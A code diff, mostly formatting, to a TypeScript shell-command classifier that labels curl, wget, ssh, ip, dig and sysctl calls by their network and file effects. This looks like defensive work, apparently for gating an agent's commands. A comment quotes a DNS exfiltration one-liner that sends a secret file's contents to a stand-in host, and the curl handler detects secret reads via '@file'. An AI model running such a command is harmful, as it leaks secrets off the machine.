@@ -18,7 +18,10 @@ const LOCAL_ENDPOINTS: { method: string; path: RegExp; effect: Effect["effect"];
 ];
 
 export function isLoopback(host: string): boolean {
-  const h = host.toLowerCase().replace(/^\[|\]$/g, "").replace(/\.$/, "");
+  const h = host
+    .toLowerCase()
+    .replace(/^\[|\]$/g, "")
+    .replace(/\.$/, "");
   return h === "localhost" || h === "::1" || h === "0.0.0.0" || /^127\.\d+\.\d+\.\d+$/.test(h) || /^::ffff:127\./.test(h) || h === "0:0:0:0:0:0:0:1";
 }
 
@@ -52,8 +55,10 @@ function http(call: Invocation, url: string | undefined, method: string, outputs
     const verdict = checkWrite(path, call.env.writable);
     return verdict.ok ? effect(call, "write", "http -o", `saves the answer to ${path}`) : effect(call, verdict.effect, "http -o", verdict.why);
   });
-  if (!isLoopback(parsed.hostname)) return [effect(call, "remote", `http ${method}`, `reaches ${parsed.hostname}, another machine`, { reaches: parsed.hostname }), ...written];
-  if (method === "GET" || method === "HEAD") return [effect(call, "local-http", `http ${method}`, `reads ${parsed.pathname} on the host's own loopback`), ...written];
+  if (!isLoopback(parsed.hostname))
+    return [effect(call, "remote", `http ${method}`, `reaches ${parsed.hostname}, another machine`, { reaches: parsed.hostname }), ...written];
+  if (method === "GET" || method === "HEAD")
+    return [effect(call, "local-http", `http ${method}`, `reads ${parsed.pathname} on the host's own loopback`), ...written];
   const known = LOCAL_ENDPOINTS.find((e) => e.method === method && e.path.test(parsed.pathname));
   if (!known) return [opaque(call, `http ${method}`, `${method} ${parsed.pathname} on loopback: an endpoint whose effect is not known`)];
   return [effect(call, known.effect, `http ${method} ${parsed.pathname}`, known.what), ...written];
@@ -62,7 +67,32 @@ function http(call: Invocation, url: string | undefined, method: string, outputs
 const CURL: OptionSpec = {
   flags: "fsSIkvqG",
   valued: "XmoHwdu",
-  long: { fail: "flag", silent: "flag", "show-error": "flag", head: "flag", insecure: "flag", verbose: "flag", request: "value", "max-time": "value", "connect-timeout": "value", output: "value", header: "value", "write-out": "value", data: "value", "data-raw": "value", "data-binary": "value", "data-urlencode": "value", user: "value", retry: "value", "retry-delay": "value", "retry-max-time": "value", url: "value", get: "flag", "fail-with-body": "flag", "no-progress-meter": "flag" },
+  long: {
+    fail: "flag",
+    silent: "flag",
+    "show-error": "flag",
+    head: "flag",
+    insecure: "flag",
+    verbose: "flag",
+    request: "value",
+    "max-time": "value",
+    "connect-timeout": "value",
+    output: "value",
+    header: "value",
+    "write-out": "value",
+    data: "value",
+    "data-raw": "value",
+    "data-binary": "value",
+    "data-urlencode": "value",
+    user: "value",
+    retry: "value",
+    "retry-delay": "value",
+    "retry-max-time": "value",
+    url: "value",
+    get: "flag",
+    "fail-with-body": "flag",
+    "no-progress-meter": "flag",
+  },
 };
 
 const curl: Handler = (call) => {
@@ -74,20 +104,40 @@ const curl: Handler = (call) => {
   const urls = [...optionValues(p, "url"), ...p.operands.map((w) => w.value)];
   if (urls.length === 0) return [opaque(call, "curl", "names no URL")];
   // `@FILE` in a data or write-out option reads that file (and sends it, or prints it).
-  const fileValues = [...p.options.values()].flat().filter((v) => v.startsWith("@")).map((v) => v.slice(1));
-  const secrets = fileValues.flatMap((f) => { const v = checkRead(f); return v.ok ? [] : [effect(call, v.effect, "curl @file", v.why)]; });
+  const fileValues = [...p.options.values()]
+    .flat()
+    .filter((v) => v.startsWith("@"))
+    .map((v) => v.slice(1));
+  const secrets = fileValues.flatMap((f) => {
+    const v = checkRead(f);
+    return v.ok ? [] : [effect(call, v.effect, "curl @file", v.why)];
+  });
   const unknown = fileValues.some((f) => f === "-" || !f.startsWith("/")) ? [opaque(call, "curl @file", "reads a file the classifier cannot place")] : [];
   return [...secrets, ...unknown, ...urls.flatMap((url) => http(call, url, method, optionValues(p, "o", "output")))];
 };
 
 const wget: Handler = (call) => {
-  const parsed = parseOptions(call.argv.slice(1), { flags: "qS", valued: "OT", long: { quiet: "flag", "output-document": "value", timeout: "value", tries: "value", "post-data": "value", method: "value", "server-response": "flag", spider: "flag" } });
+  const parsed = parseOptions(call.argv.slice(1), {
+    flags: "qS",
+    valued: "OT",
+    long: {
+      quiet: "flag",
+      "output-document": "value",
+      timeout: "value",
+      tries: "value",
+      "post-data": "value",
+      method: "value",
+      "server-response": "flag",
+      spider: "flag",
+    },
+  });
   if (!parsed.ok) return [opaque(call, "wget options", parsed.reason)];
   const p = parsed.value;
   const method = (optionValues(p, "method").at(-1) ?? (hasOption(p, "post-data") ? "POST" : "GET")).toUpperCase();
   const outputs = optionValues(p, "O", "output-document").filter((o) => o !== "-");
   if (p.operands.length === 0) return [opaque(call, "wget", "names no URL")];
-  if (outputs.length === 0 && !hasOption(p, "spider") && !optionValues(p, "O", "output-document").includes("-")) return [opaque(call, "wget", "saves into the working directory: give -O FILE or -O -")];
+  if (outputs.length === 0 && !hasOption(p, "spider") && !optionValues(p, "O", "output-document").includes("-"))
+    return [opaque(call, "wget", "saves into the working directory: give -O FILE or -O -")];
   return p.operands.flatMap((w) => http(call, w.value, method, outputs));
 };
 
@@ -105,7 +155,9 @@ const ssh: Handler = (call) => {
   const [destination, ...command] = p.operands;
   if (destination?.value === undefined) return [opaque(call, "ssh", "the destination is not static")];
   const host = hostOf(destination.value);
-  const jumps = optionValues(p, "J").flatMap((j) => j.split(",")).map(hostOf);
+  const jumps = optionValues(p, "J")
+    .flatMap((j) => j.split(","))
+    .map(hostOf);
   const risky = ["o", "F", "L", "R", "D", "W", "w", "S", "O"].filter((o) => p.options.has(o));
   const effects: Effect[] = [host, ...jumps].map((h) => effect(call, "remote", "ssh", `runs a command on ${h}, another machine`, { reaches: h }));
   if (risky.length > 0) effects.push(opaque(call, "ssh options", `-${risky.join(", -")} change how or where ssh connects`));
@@ -130,11 +182,16 @@ function reachesOperands(rule: string, kind: Effect["effect"], spec: OptionSpec)
 
 /** `ip OBJECT [show|list|get]` only looks; every other form changes the network. */
 const ip: Handler = (call) => {
-  const parsed = parseOptions(call.argv.slice(1), { stopAtOperand: true, flags: "46sdjpcoh", long: { brief: "flag", br: "flag", json: "flag", details: "flag", stats: "flag", color: "flag", pretty: "flag" } });
+  const parsed = parseOptions(call.argv.slice(1), {
+    stopAtOperand: true,
+    flags: "46sdjpcoh",
+    long: { brief: "flag", br: "flag", json: "flag", details: "flag", stats: "flag", color: "flag", pretty: "flag" },
+  });
   if (!parsed.ok) return [opaque(call, "ip options", parsed.reason)];
   const [object, verb] = parsed.value.operands.map((w) => w.value);
   const objects = /^(a|addr|address|l|link|r|ro|route|n|neigh|neighbour|ru|rule|maddr|mroute|netconf)$/;
-  if (object !== undefined && objects.test(object) && (verb === undefined || /^(show|list|ls|lst|get|dev)$/.test(verb))) return [effect(call, "read", "ip show", "lists network state")];
+  if (object !== undefined && objects.test(object) && (verb === undefined || /^(show|list|ls|lst|get|dev)$/.test(verb)))
+    return [effect(call, "read", "ip show", "lists network state")];
   return [effect(call, "network", "ip", "changes interfaces, addresses, routes or rules")];
 };
 
@@ -142,11 +199,19 @@ const lookup: Handler = (call) => {
   // A name that expands can carry data out in the question itself (`dig "$(cat secret).evil"`).
   if (call.argv.slice(1).some((w) => w.value === undefined)) return [opaque(call, "network probe", "a name that expands could carry data out in the lookup")];
   // dig -f FILE / -k KEYFILE send a file's lines to the server; ping -p carries a pattern, -f floods.
-  if (call.argv.slice(1).some((w) => /^-[a-zA-Z]*[fkpi]/.test(w.value!) && !w.value!.startsWith("--"))) return [opaque(call, "network probe", "an option that reads a file or shapes the packets")];
+  if (call.argv.slice(1).some((w) => /^-[a-zA-Z]*[fkpi]/.test(w.value!) && !w.value!.startsWith("--")))
+    return [opaque(call, "network probe", "an option that reads a file or shapes the packets")];
   const servers = call.argv.slice(1).flatMap((w) => (w.value!.startsWith("@") ? [w.value!.slice(1)] : []));
-  if (servers.length > 0) return [effect(call, "read", "network probe", "sends a lookup"), ...servers.map((h) => effect(call, "remote", "dns @server", `asks ${h}`, { reaches: h }))];
-  const names = call.argv.slice(1).map((w) => w.value).filter((v): v is string => v !== undefined && !v.startsWith("-") && !v.startsWith("@") && !/^\d+$/.test(v));
-  return [effect(call, "read", "network probe", "sends a probe and reads the answer"), ...names.map((h) => effect(call, "read", "network probe", `probes ${h}`, { reaches: h }))];
+  if (servers.length > 0)
+    return [effect(call, "read", "network probe", "sends a lookup"), ...servers.map((h) => effect(call, "remote", "dns @server", `asks ${h}`, { reaches: h }))];
+  const names = call.argv
+    .slice(1)
+    .map((w) => w.value)
+    .filter((v): v is string => v !== undefined && !v.startsWith("-") && !v.startsWith("@") && !/^\d+$/.test(v));
+  return [
+    effect(call, "read", "network probe", "sends a probe and reads the answer"),
+    ...names.map((h) => effect(call, "read", "network probe", `probes ${h}`, { reaches: h })),
+  ];
 };
 
 /**
@@ -158,11 +223,15 @@ const sysctl: Handler = (call) => {
   if (words.some((w) => w === undefined)) return [opaque(call, "sysctl", "a setting that expands cannot be told apart")];
   const args = words as string[];
   // -p, -f (procps' alias) and any prefix of --load / --system load files of settings.
-  const loads = (a: string) => /^-[a-zA-Z]*[pf]/.test(a) && !a.startsWith("--") || (a.startsWith("--") && a.length > 3 && ["--load", "--system"].some((o) => o.startsWith(a.split("=")[0]!)));
-  if (args.some((a) => loads(a) || (/^\/?net[./]/.test(a) && a.includes("=")))) return [effect(call, "network", "sysctl net", "changes kernel network settings")];
+  const loads = (a: string) =>
+    (/^-[a-zA-Z]*[pf]/.test(a) && !a.startsWith("--")) ||
+    (a.startsWith("--") && a.length > 3 && ["--load", "--system"].some((o) => o.startsWith(a.split("=")[0]!)));
+  if (args.some((a) => loads(a) || (/^\/?net[./]/.test(a) && a.includes("="))))
+    return [effect(call, "network", "sysctl net", "changes kernel network settings")];
   if (args.some((a) => a.includes("=") || /^-[a-zA-Z]*w/.test(a) || a === "--write")) return [effect(call, "server", "sysctl -w", "changes a kernel setting")];
   // Reading: only -a, -n, -e, -N, -q, -b and keys.
-  if (args.some((a) => a.startsWith("-") && !/^-[aneNqb]+$/.test(a) && !["--all", "--values", "--names"].includes(a))) return [opaque(call, "sysctl", "only the reading options of sysctl are in the vocabulary")];
+  if (args.some((a) => a.startsWith("-") && !/^-[aneNqb]+$/.test(a) && !["--all", "--values", "--names"].includes(a)))
+    return [opaque(call, "sysctl", "only the reading options of sysctl are in the vocabulary")];
   return [effect(call, "read", "sysctl", "reads kernel settings")];
 };
 
